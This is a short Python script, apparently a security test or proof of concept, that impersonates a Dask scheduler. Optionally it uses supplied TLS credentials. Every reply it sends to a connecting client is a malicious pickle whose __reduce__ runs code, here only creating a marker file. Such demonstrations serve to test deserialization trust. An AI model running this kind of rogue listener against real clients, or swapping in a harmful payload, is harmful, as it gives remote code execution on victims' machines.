"""A program that listens where a scheduler should, and answers with a pickle that runs code.

``python squatter.py ADDRESS FILE [CA CERT KEY]``: whoever unpickles its answer makes FILE.
"""

from __future__ import annotations

import asyncio
import sys
from pathlib import Path
from typing import Any

from distributed.comm.core import listen
from distributed.protocol.serialize import ToPickle
from distributed.security import Security


class Bomb:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (Path(self.path),)


async def squat(address: str, path: str, files: list[str]) -> None:
    async def answer(comm: Any) -> None:
        while True:
            await comm.read()
            await comm.write([{"op": "stream-start", "bomb": ToPickle(Bomb(path))}])

    more: dict[str, Any] = {}
    if files:
        names = ("tls_ca_file", "tls_scheduler_cert", "tls_scheduler_key")
        mine = Security(require_encryption=True, **dict(zip(names, files, strict=True)))
        more = mine.get_listen_args("scheduler")
    listener = await listen(address, answer, deserialize=False, **more)
    print("listening", flush=True)  # noqa: T201
    await asyncio.Event().wait()
    listener.stop()


asyncio.run(squat(sys.argv[1], sys.argv[2], sys.argv[3:]))
